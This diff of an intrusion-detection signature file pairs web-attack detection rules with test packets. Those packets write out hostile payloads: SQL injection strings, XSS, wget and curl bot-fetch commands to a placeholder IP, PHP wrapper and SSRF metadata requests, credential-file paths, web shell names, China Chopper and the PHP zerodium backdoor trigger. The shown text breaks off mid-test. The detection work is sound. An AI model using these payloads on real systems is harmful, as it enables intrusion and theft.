@@ -4,8 +4,10 @@
 //! a segment, and what its sender splits over segments is not found. Browsers and libraries tidy a path before they send it
 //! (RFC 3986 5.2.4) and encode what a form holds, so `../` and `/etc/passwd` in clear are not what a person typed.
 //!
-//! On nDPI's test captures (real traffic of several hundred protocols) nothing honest matches: 103 requests of the web scanner
-//! Nikto, which tries just these holes and names itself, and one of curl for `/.env`.
+//! Holes of one product stand in web-apps.sig, those of routers and cameras in devices.sig.
+//!
+//! On nDPI's test captures (real traffic of several hundred protocols) nothing honest matches: 734 requests of the web scanner
+//! Nikto, which tries just these holes and names itself, one of curl for `/.env`, and ten to servers that are made to be attacked (DVWA).
 
 /// Where clear-text web servers listen.
 param web_ports = { 80, 81, 3128, 8000..8010, 8080, 8081, 8888 }
@@ -387,8 +389,8 @@ test "not decoded twice: a percent sign" {
   expect none
 }
 test "steps up" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=../../../boot.ini HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=..\\..\\..\\boot.ini HTTP/1.0\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=../../../secret.txt HTTP/1.0\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=..\\..\\..\\secret.txt HTTP/1.0\r\n" }
   expect web_traversal * 2, verdict drop
 }
 test "not steps up: a relative link, and a body" {
@@ -496,5 +498,688 @@ test "a range to the end of numbers" {
 test "not to the end of numbers: an honest range, and the number elsewhere" {
   packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nRange: bytes=0-1023\r\n" }
   packet { ipv4 tcp { dst_port 80 } payload "GET /primes?to=2-18446744073709551615 HTTP/1.1\r\n" }
+  expect none
+}
+
+// SQL, scripts and commands in a query ---------------------------------------------------------------------------------
+
+/// A second question added to a server's own, with blanks as queries write them. In nDPI's captures: attacks on a server that is made for
+/// them (DVWA), twice in the page that the request says it comes from.
+signature sql_union {
+  id       1000119
+  title    "SQL injection: UNION SELECT"
+  severity high
+  class    exploit
+  ref      cwe "CWE-89"
+  ref      mitre "T1190"
+  when     request
+       and (payload contains "union+select" nocase in uri_first..uri_last
+         or payload contains "union%20select" nocase in uri_first..uri_last
+         or payload contains "union+all+select" nocase in uri_first..uri_last
+         or payload contains "union%20all%20select" nocase in uri_first..uri_last
+         or payload contains "union/**/select" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "a second question" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+UNION+SELECT+1,2 HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1%20union%20select%201 HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+union+all+select+null HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1%20union%20all%20select%20null HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1/**/union/**/select/**/1 HTTP/1.1\r\n" }
+  expect sql_union * 5, verdict drop
+}
+test "near miss: an election, a text, and mail" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /news?q=trade+union+elects+chair HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "POST /note HTTP/1.1\r\n\r\nwe union and select" }
+  packet { ipv4 tcp { dst_port 25 } payload "GET /item?id=1+union+select+1 HTTP/1.1\r\n" }
+  expect none
+}
+
+/// A quote that ends the text where it should not, and `or` with a comparison that holds; the quote and the equals sign also encoded.
+signature sql_always_true {
+  id       1000120
+  title    "SQL injection: a condition that always holds"
+  severity high
+  class    exploit
+  ref      cwe "CWE-89"
+  ref      mitre "T1190"
+  when     request
+       and (payload contains "'+or+'1'='1" nocase in uri_first..uri_last
+         or payload contains "'%20or%20'1'='1" nocase in uri_first..uri_last
+         or payload contains "%27+or+%271%27%3d%271" nocase in uri_first..uri_last
+         or payload contains "%27%20or%20%271%27%3d%271" nocase in uri_first..uri_last
+         or payload contains "'+or+1=1" nocase in uri_first..uri_last
+         or payload contains "'%20or%201=1" nocase in uri_first..uri_last
+         or payload contains "%27+or+1%3d1" nocase in uri_first..uri_last
+         or payload contains "%27%20or%201%3d1" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "eight ways to write it" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u='+or+'1'='1 HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u='%20or%20'1'='1 HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u=%27+OR+%271%27%3D%271 HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u=%27%20or%20%271%27%3D%271 HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u='+or+1=1-- HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u='%20OR%201=1-- HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u=%27+or+1%3D1-- HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u=%27%20or%201%3D1-- HTTP/1.1\r\n" }
+  expect sql_always_true * 8, verdict drop
+}
+test "near miss: rock and roll, and no quote" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=rock+%27n%27+roll+or+1+of+1 HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=or+1=1 HTTP/1.1\r\n" }
+  expect none
+}
+
+/// Where a page shows nothing, how long it takes is the answer: a function of each common database that waits.
+signature sql_wait {
+  id       1000121
+  title    "SQL injection: a question that takes its time"
+  severity high
+  class    exploit
+  ref      cwe "CWE-89"
+  ref      mitre "T1190"
+  when     request
+       and (payload contains "waitfor+delay" nocase in uri_first..uri_last
+         or payload contains "waitfor%20delay" nocase in uri_first..uri_last
+         or payload contains "pg_sleep(" nocase in uri_first..uri_last
+         or payload contains "benchmark(" nocase in uri_first..uri_last
+         or payload contains "dbms_pipe.receive_message" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "four databases" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1;WAITFOR+DELAY+'0:0:5' HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1;waitfor%20delay%20'0:0:5' HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1;select+pg_sleep(5) HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+benchmark(5000000,md5(1)) HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+1=dbms_pipe.receive_message('a',5) HTTP/1.1\r\n" }
+  expect sql_wait * 5, verdict drop
+}
+test "near miss: a word alone" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /wait?for=delay HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/benchmark.html HTTP/1.1\r\n" }
+  expect none
+}
+
+/// The tables that describe the others, and the procedure by which SQL Server runs commands.
+signature sql_schema {
+  id       1000122
+  title    "SQL injection: what tables there are"
+  severity medium
+  class    exploit
+  ref      cwe "CWE-89"
+  ref      mitre "T1190"
+  when     request
+       and (payload contains "information_schema" nocase in uri_first..uri_last
+         or payload contains "xp_cmdshell" nocase in uri_first..uri_last
+         or payload contains "sysobjects+where" nocase in uri_first..uri_last
+         or payload contains "from+sqlite_master" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "tables of tables" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+(select+count(*)+from+information_schema.tables) HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1;exec+master..xp_cmdshell+'dir' HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+(select+name+from+sysobjects+where+1) HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+(select+sql+from+sqlite_master) HTTP/1.1\r\n" }
+  expect sql_schema * 4, verdict drop
+}
+test "near miss: pages about them" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/schema?name=information HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/sqlite_master.html HTTP/1.1\r\n" }
+  expect none
+}
+
+/// A page that shows what it was asked for would run it.
+signature web_script_in_query {
+  id       1000123
+  title    "Cross-site scripting: a script in a query"
+  severity medium
+  class    exploit
+  ref      cwe "CWE-79"
+  ref      mitre "T1189"
+  when     request
+       and (payload contains "<script" nocase in uri_first..uri_last
+         or payload contains "%3cscript" nocase in uri_first..uri_last
+         or payload contains "onerror%3d" nocase in uri_first..uri_last
+         or payload contains "javascript:alert" nocase in uri_first..uri_last
+         or payload contains "javascript%3aalert" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "four ways to write a script" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=<script>alert(1)</script> HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=%3CScript%3Ealert(1) HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=%3Cimg+src=x+onerror%3Dalert(1) HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=javascript:alert(1) HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=javascript%3Aalert(1) HTTP/1.1\r\n" }
+  expect web_script_in_query * 5, verdict drop
+}
+test "near miss: a word, and a page that is uploaded" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=script+type HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "POST /page HTTP/1.1\r\nContent-Type: text/html\r\n\r\n<p>hello</p>" }
+  expect none
+}
+
+/// What botnets add to any parameter, so that a shell fetches them: `wget` or `curl` behind something that ends a command, or blanks written as
+/// the shell's own `${IFS}`.
+signature web_command {
+  id       1000124
+  title    "Command in a request"
+  severity critical
+  class    exploit
+  ref      cwe "CWE-78"
+  ref      mitre "T1059.004"
+  when     request
+       and (payload contains ";wget+http" nocase in uri_first..uri_last
+         or payload contains ";wget%20http" nocase in uri_first..uri_last
+         or payload contains "%3bwget%20http" nocase in uri_first..uri_last
+         or payload contains "%3bwget+http" nocase in uri_first..uri_last
+         or payload contains "`wget+http" nocase in uri_first..uri_last
+         or payload contains "`wget%20http" nocase in uri_first..uri_last
+         or payload contains "$(wget+" nocase in uri_first..uri_last
+         or payload contains "$(wget%20" nocase in uri_first..uri_last
+         or payload contains ";curl+http" nocase in uri_first..uri_last
+         or payload contains ";curl%20http" nocase in uri_first..uri_last
+         or payload contains "wget${ifs}" nocase in uri_first..uri_last
+         or payload contains "cd+/tmp;" nocase in uri_first..uri_last
+         or payload contains "cd%20/tmp;" nocase in uri_first..uri_last
+         or payload contains "cd${ifs}/tmp" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "fourteen ways to fetch a bot" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;wget+http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;wget%20http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1%3Bwget%20http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1%3Bwget+http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=`wget+http://198.51.100.9/x` HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=`wget%20http://198.51.100.9/x` HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=$(wget+-O-+198.51.100.9) HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=$(wget%20-O-%20198.51.100.9) HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;curl+http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;curl%20http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;wget${IFS}198.51.100.9 HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;cd+/tmp;ls HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;cd%20/tmp;ls HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;cd${IFS}/tmp&&ls HTTP/1.1\r\n" }
+  expect web_command * 14, verdict drop
+}
+test "near miss: questions about the tools" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=how+does+wget+http+work HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/curl+http.html HTTP/1.1\r\n" }
+  expect none
+}
+
+/// A line's end in a query, and the beginning of a header: where a server copies it into its answer, the sender writes the answer.
+signature web_header_injection {
+  id       1000125
+  title    "Header put into an answer"
+  severity medium
+  class    exploit
+  ref      cwe "CWE-113"
+  ref      mitre "T1190"
+  when     request
+       and (payload contains "%0d%0aset-cookie" nocase in uri_first..uri_last
+         or payload contains "%0d%0alocation:" nocase in uri_first..uri_last
+         or payload contains "%0d%0alocation%3a" nocase in uri_first..uri_last
+         or payload contains "%0d%0acontent-length" nocase in uri_first..uri_last
+         or payload contains "%0d%0acontent-type" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "five headers" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0d%0aSet-Cookie:a=b HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0D%0ALocation:%20//y HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0d%0alocation%3a%20//y HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0d%0aContent-Length:0 HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0d%0aContent-Type:text/html HTTP/1.1\r\n" }
+  expect web_header_injection * 5, verdict drop
+}
+test "near miss: two lines of text, and a page about cookies" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /note?text=one%0d%0atwo HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /help?topic=set-cookie HTTP/1.1\r\n" }
+  expect none
+}
+
+// Files that nobody should ask for -------------------------------------------------------------------------------------
+
+/// A parameter that names a file to show names PHP's own streams instead: the body of the request, a file in base 64, a text, a command.
+signature php_wrapper {
+  id       1000126
+  title    "PHP: a stream where a file is expected"
+  severity high
+  class    exploit
+  ref      cwe "CWE-98"
+  ref      mitre "T1190"
+  when     request
+       and (payload contains "=php://input" nocase in uri_first..uri_last
+         or payload contains "=php://filter" nocase in uri_first..uri_last
+         or payload contains "=data://text/plain" nocase in uri_first..uri_last
+         or payload contains "=expect://" nocase in uri_first..uri_last
+         or payload contains "=phar://" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "five streams" {
+  packet { ipv4 tcp { dst_port 80 } payload "POST /show.php?page=php://input HTTP/1.1\r\n\r\n<?php" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=data://text/plain;base64,PD8= HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=expect://id HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=phar://x.jpg/y HTTP/1.1\r\n" }
+  expect php_wrapper * 5, verdict drop
+}
+test "near miss: pages about them" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/php://input HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=data HTTP/1.1\r\n" }
+  expect none
+}
+
+/// Files that every system has, by which is tried whether any can be read. Users and passwords: `web_passwd`.
+signature web_system_file {
+  id       1000127
+  title    "Request for a file of the system"
+  severity high
+  class    exploit
+  ref      cwe "CWE-22"
+  ref      mitre "T1190"
+  when     request
+       and (payload contains "/windows/win.ini" nocase in uri_first..uri_last
+         or payload contains "\\windows\\win.ini" nocase in uri_first..uri_last
+         or payload contains "/winnt/win.ini" nocase in uri_first..uri_last
+         or payload contains "/boot.ini" nocase in uri_first..uri_last
+         or payload contains "/proc/self/environ" nocase in uri_first..uri_last
+         or payload contains "/proc/self/cmdline" nocase in uri_first..uri_last
+         or payload contains "/etc/hosts" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "seven files" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=c:/Windows/win.ini HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=c:\\windows\\win.ini HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=c:/winnt/win.ini HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=c:/boot.ini HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=/proc/self/environ HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=/proc/self/cmdline HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=/etc/hosts HTTP/1.1\r\n" }
+  expect web_system_file * 7, verdict drop
+}
+test "near miss: pages about them" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/win.ini.html HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/bootini HTTP/1.1\r\n" }
+  expect none
+}
+
+/// What lies in a home or a web root by mistake: keys, passwords, settings that an editor has kept.
+signature web_credentials {
+  id       1000128
+  title    "Request for keys or passwords"
+  severity medium
+  class    recon
+  ref      cwe "CWE-538"
+  ref      mitre "T1552.001"
+  ref      mitre "T1595.003"
+  when     request
+       and (payload contains "/.ssh/id_rsa" nocase in uri_first..uri_last
+         or payload contains "/.aws/credentials" nocase in uri_first..uri_last
+         or payload contains "/.svn/entries" nocase in uri_first..uri_last
+         or payload contains "/.htpasswd" nocase in uri_first..uri_last
+         or payload contains "/wp-config.php.bak" nocase in uri_first..uri_last
+         or payload contains "/wp-config.php~" nocase in uri_first..uri_last
+         or payload contains "/.docker/config.json" nocase in uri_first..uri_last
+         or payload contains "/.vscode/sftp.json" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "eight of them" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /.ssh/id_rsa HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /.aws/credentials HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /.svn/entries HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /.htpasswd HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /wp-config.php.bak HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /wp-config.php~ HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /.docker/config.json HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /.vscode/sftp.json HTTP/1.1\r\n" }
+  expect web_credentials * 8, verdict drop
+}
+test "near miss: a page about keys, and the settings themselves, which run" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/ssh/id_rsa HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /wp-config.php HTTP/1.1\r\n" }
+  expect none
+}
+
+/// The address from which a cloud's servers learn who they are, given to a server that fetches what it is asked for.
+signature cloud_metadata {
+  id       1000129
+  title    "Request for a cloud server's own credentials"
+  severity high
+  class    exploit
+  ref      cwe "CWE-918"
+  ref      mitre "T1552.005"
+  when     request
+       and (payload contains "169.254.169.254" nocase in uri_first..uri_last
+         or payload contains "metadata.google.internal" nocase in uri_first..uri_last
+         or payload contains "/computemetadata/v1" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "three names for it" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /fetch?url=http://metadata.google.internal/ HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /fetch?url=http://169.254.169.253/computeMetadata/v1/ HTTP/1.1\r\n" }
+  expect cloud_metadata * 3, verdict drop
+}
+test "near miss: another server" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /fetch?url=http://192.0.2.5/latest/meta-data/ HTTP/1.1\r\n" }
+  expect none
+}
+
+// Back doors -----------------------------------------------------------------------------------------------------------
+
+/// Shells that break-ins leave behind; others look for them. No honest page is called so.
+signature web_shell {
+  id       1000130
+  title    "Web shell by its name"
+  severity high
+  class    backdoor
+  ref      mitre "T1505.003"
+  when     request
+       and (payload contains "/c99.php" nocase in uri_first..uri_last
+         or payload contains "/c99shell.php" nocase in uri_first..uri_last
+         or payload contains "/r57.php" nocase in uri_first..uri_last
+         or payload contains "/r57shell.php" nocase in uri_first..uri_last
+         or payload contains "/b374k.php" nocase in uri_first..uri_last
+         or payload contains "/wso.php" nocase in uri_first..uri_last
+         or payload contains "/alfa.php" nocase in uri_first..uri_last
+         or payload contains "/alfacgiapi/" nocase in uri_first..uri_last
+         or payload contains "/indoxploit.php" nocase in uri_first..uri_last
+         or payload contains "/cmdjsp.jsp" nocase in uri_first..uri_last
+         or payload contains "/aspxspy.aspx" nocase in uri_first..uri_last)
+  then     log, drop
+}
+test "eleven shells" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/c99.php HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/c99shell.php HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/r57.php HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/r57shell.php HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/b374k.php HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/wso.php HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/alfa.php HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/ALFAcgiapi/perl.alfa HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/indoxploit.php HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/cmdjsp.jsp HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /img/aspxspy.aspx HTTP/1.1\r\n" }
+  expect web_shell * 11, verdict drop
+}
+test "near miss: a language, and a car" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/c99.html HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET /alfa.html HTTP/1.1\r\n" }
+  expect none
+}
+
+/// The shell is one line; its client sends the program with each request, to be decoded from base 64 (FireEye, "The Little Malware That Could", 2013).
+signature china_chopper {
+  id       1000131
+  title    "China Chopper: command to a web shell"
+  severity critical
+  class    backdoor
+  ref      mitre "S0020"
+  ref      mitre "T1505.003"
+  when     request
+       and (payload contains "eval(base64_decode($_POST[z0]" nocase
+         or payload contains "eval%01(base64_decode($_POST[z0]" nocase
+         or payload contains "eval%28base64_decode%28%24_POST" nocase
+         or payload contains "Execute(\"Execute(\"\"On+Error+Resume+Next" nocase
+         or payload contains "Response.Write(\"->|\");" nocase)
+  then     log, drop
+}
+test "PHP, ASP and ASPX" {
+  packet { ipv4 tcp { dst_port 80 } payload "POST /x.php HTTP/1.1\r\n\r\na=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQ" }
+  packet { ipv4 tcp { dst_port 80 } payload "POST /x.php HTTP/1.1\r\n\r\na=@eval%01(base64_decode($_POST[z0]));&z0=Q" }
+  packet { ipv4 tcp { dst_port 80 } payload "POST /x.php HTTP/1.1\r\n\r\na=%40eval%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=Q" }
+  packet { ipv4 tcp { dst_port 80 } payload "POST /x.asp HTTP/1.1\r\n\r\na=Execute(\"Execute(\"\"On+Error+Resume+Next:Function+bd" }
+  packet { ipv4 tcp { dst_port 80 } payload "POST /x.aspx HTTP/1.1\r\n\r\na=Response.Write(\"->|\");var err" }
+  expect china_chopper * 5, verdict drop
+}
+test "near miss: advice, and a page about it" {
+  packet { ipv4 tcp { dst_port 80 } payload "POST /blog HTTP/1.1\r\n\r\ntext=never use eval(base64_decode(" }
+  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "HTTP/1.1 200 OK\r\n\r\neval(base64_decode($_POST[z0]" }
+  expect none
+}
+
+/// Somebody put it into PHP's own source for some hours in March 2021: a header, misspelt on purpose, whose value was run.
+signature php_zerodium {
+  id       1000132
+  title    "PHP 8.1.0-dev: back door"
+  severity critical
+  class    backdoor
+  ref      url "https://news-web.php.net/php.internals/113838"
+  ref      mitre "T1195.002"
+  when     request
+       and payload contains "\r\nUser-Agentt: zerodium" nocase in uri_first..header_last
+  then     log, drop
+}
+test "two letters t" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agentt: zerodiumsystem('id');\r\n" }
+  expect php_zerodium, verdict drop
+}
+test "near miss: one letter t" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: zerodium\r\n" }
+  expect none
+}
+
+// Methods and tools ----------------------------------------------------------------------------------------------------
+
+/// A server that sends a request back shows a script the cookies in it. No browser asks.
+signature web_trace {
+  id       1000133
+  title    "HTTP TRACE"
+  severity low
+  class    recon
+  ref      cert "VU#867593"
+  ref      rfc "9110 9.3.8"
+  when     tcp.dst_port in web_ports
+       and (payload contains "TRACE /" at 0 or payload contains "TRACK /" at 0)
+  then     log, drop
+}
+test "two names for it" {
+  packet { ipv4 tcp { dst_port 80 } payload "TRACE / HTTP/1.1\r\nHost: x\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "TRACK / HTTP/1.1\r\nHost: x\r\n" }
+  expect web_trace * 2, verdict drop
+}
+test "near miss: a path, and mail" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET /TRACE / HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 25 } payload "TRACE / HTTP/1.1\r\n" }
+  packet { ipv4 tcp { dst_port 25 } payload "TRACK / HTTP/1.1\r\n" }
+  expect none
+}
+
+/// Scanners that say who they are. In nDPI's captures: Nikto. What a site has ordered itself belongs in a signature with `pass`.
+signature web_scanner {
+  id       1000134
+  title    "Web scanner by its name"
+  severity low
+  class    recon
+  ref      mitre "T1595.002"
+  when     request and payload contains "\r\nUser-Agent:" nocase
+       and (payload contains "(nikto/" nocase in uri_first..header_last
+         or payload contains "sqlmap/" nocase in uri_first..header_last
+         or payload contains "nmap scripting engine" nocase in uri_first..header_last
+         or payload contains "zgrab/" nocase in uri_first..header_last
+         or payload contains "masscan/" nocase in uri_first..header_last
+         or payload contains "gobuster/" nocase in uri_first..header_last
+         or payload contains "wpscan" nocase in uri_first..header_last
+         or payload contains "nuclei -" nocase in uri_first..header_last
+         or payload contains "dirbuster" nocase in uri_first..header_last
+         or payload contains "acunetix" nocase in uri_first..header_last
+         or payload contains "fuzz faster u fool" nocase in uri_first..header_last
+         or payload contains "openvas" nocase in uri_first..header_last)
+  then     log
+}
+test "twelve scanners" {
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7 (https://sqlmap.org)\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: masscan/1.3\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: gobuster/3.1\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: WPScan v3.8\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Nuclei - Open-source project\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: DirBuster-1.0\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Acunetix\r\n" }
+  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Fuzz Faster U Fool v2\r\n" }
